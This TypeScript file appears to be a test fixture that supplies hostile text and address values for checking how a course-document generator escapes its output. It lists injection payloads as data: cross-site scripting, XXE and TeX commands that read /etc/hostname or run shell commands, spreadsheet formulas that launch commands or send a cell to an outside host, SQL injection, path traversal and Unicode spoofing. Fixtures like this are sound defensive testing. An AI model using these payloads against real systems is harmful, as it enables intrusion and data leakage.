import { readFileSync } from 'node:fs';

/** Something that a document could take for more than words. */
export interface HostileValue {
  readonly id: string;
  readonly value: string;
}

/**
 * Values for every place where a course has words or addresses. With `HOSTILE` in the environment, those of that
 * file: a JSON list of objects with `id` and `value`.
 */
export function hostileValues(): readonly HostileValue[] {
  const file = process.env.HOSTILE;
  return file === undefined ? ownValues : readValues(JSON.parse(readFileSync(file, 'utf8')));
}

/** Values that begin with `@make:` are recipes, not values; other tests make those. */
function readValues(list: unknown): readonly HostileValue[] {
  if (!Array.isArray(list)) throw new TypeError('Unexpected hostile values, expected a list');
  return list.flatMap(({ id, value }: HostileValue) => (value.startsWith('@make:') ? [] : [{ id, value }]));
}

const words: Readonly<Record<string, string>> = {
  plain: 'A plain title',
  script: '<script>window.hit=1</script><svg onload=window.hit=2><img src=x onerror=window.hit=3>',
  attribute: `a" onmouseover="window.hit=4" b' onfocus='window.hit=5`,
  'closing-script': '</script><script>window.hit=6</script><!-- <style>*{display:none}</style>',
  'markdown-link':
    '[here](https://outside.example) ![pixel](https://outside.example/p.png) <https://outside.example>',
  'markdown-structure': 'One\n\n---\n\n# Two\n\n| a | b |\n| - | - |\n| c | d |\n\n```\ncode',
  'list-and-number': '1. one\r\n- two\r\n> three\n    four',
  'front-matter': 'x\n---\nstyle: "section{display:none}"\nheadingDivider: 2\n---',
  'marp-directive':
    'x <!-- _class: evil --> <style scoped>h1{display:none}</style> ![bg](https://outside.example/b.png)',
  liquid: '{{ site.secret }} {% include secret.html %} {%- raw -%}',
  handlebars: '{{constructor}} {{{this}}} {{#each this}} {{> partial}} {{__proto__}}',
  prototype: '__proto__',
  bidi: 'Read \u202egnp.exe\u202c and \u2066this\u2069',
  invisible: '\ufeffZe\u200bRO\u00a0Memory\u00ad',
  surrogate: 'half \ud83d of a face',
  controls: 'bell\u0007 null\u0000 tab\u000b escape\u001b[31m csi\u009b1m',
  nonCharacters: 'x\uffff\ufffe\ufdd0',
  entities: ']]> &lt; &#60; &xxe; <!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><?php echo 1 ?>',
  'calendar-lines': 'x\r\nATTENDEE:mailto:someone@outside.example\r\nBEGIN:VALARM\r\nEND:VALARM',
  'calendar-marks': 'a;b,c\\d: e\\n "f"',
  wide: '京都大学'.repeat(40),
  faces: '👩‍🏫🏳️‍🌈'.repeat(30),
  'one-word': 'w'.repeat(300),
  'tex-marks': '100% & $5 #1 a_b ~ ^ \\ {x} <b> |',
  'tex-open-brace': 'A } B { C {{',
  'tex-entry': 'x}}\n@preamble{"\\write18{touch hit}"}\n@misc{evil, title={y',
  'tex-command': '\\input{/etc/hostname} \\write18{id} $\\int_0^1$',
  'name-list': 'Li, Mu, and Others and {et al.}, Jr.',
  'ris-record': 'Evil\r\nER  - \r\n\r\nTY  - BOOK\r\nTI  - Injected',
  'formula-equals': '=HYPERLINK("http://outside.example?x="&A1,"here")',
  'formula-command': "=cmd|' /C calc'!A0",
  'formula-plus': '+1+1',
  'formula-minus': '-2+3+cmd',
  'formula-at': '@SUM(1+1)',
  'formula-tab': '\t=1+1',
  'formula-return': '\r=1+1',
  'formula-wide': '\uff1d1+1',
  quotes: 'a "quoted", b\nc;d\'e`f``g',
  sql: "x'); DROP TABLE papers;--",
  typst: '#eval("1") #import "x": * $ sum $ @label <label> *bold* _it_ `raw` // c /* d */ = H \\u{41}',
  'lms-tokens': '$IMS-CC-FILEBASE$/../x $CANVAS_OBJECT_REFERENCE$/y %24',
  reserved: 'CON / aux. / a:b*?"<>| .. .',
  brackets: '['.repeat(400),
  stars: '*_'.repeat(300),
};

const addresses: Readonly<Record<string, string>> = {
  'url-script': 'javascript:window.hit=7',
  'url-script-hidden': '\u0001java\tscript:window.hit=8',
  'url-script-upper': '  JAVASCRIPT:window.hit=9',
  'url-script-entity': '&#106;avascript:window.hit=10',
  'url-data': 'data:text/html,<script>window.hit=11</script>',
  'url-file': 'file:///etc/hostname',
  'url-no-scheme': '//outside.example/p.pdf',
  'url-backslashes': 'https:\\\\outside.example\\x',
  'url-password': 'https://user:secret@example.org/p.pdf',
  'url-quote': 'https://example.org/"><script>window.hit=12</script>',
  'url-lines': 'https://example.org/\r\nATTENDEE:mailto:someone@outside.example',
  'url-parentheses': 'https://example.org/a_(b)%20c.pdf?x=1&y=2#z',
  'url-tilde': 'https://example.org/~someone/x_1.pdf',
  'url-letters': 'https://exämple.org/ä b{x}|y',
  'url-percent': 'https://example.org/%ZZ/a%00b',
  'url-long': `https://example.org/${'a'.repeat(5000)}`,
  'path-up': '../../../../etc/hostname.md',
  'path-up-encoded': '..%2f..%2f..%2fetc/hostname',
  'path-up-twice-encoded': '..%252f..%252fetc/hostname',
  'path-share': '\\\\outside\\share\\x.md',
  'path-null': 'notes/fig.png%00.md',
};

const ownValues = Object.entries({ ...words, ...addresses }).map(([id, value]) => ({ id, value }));
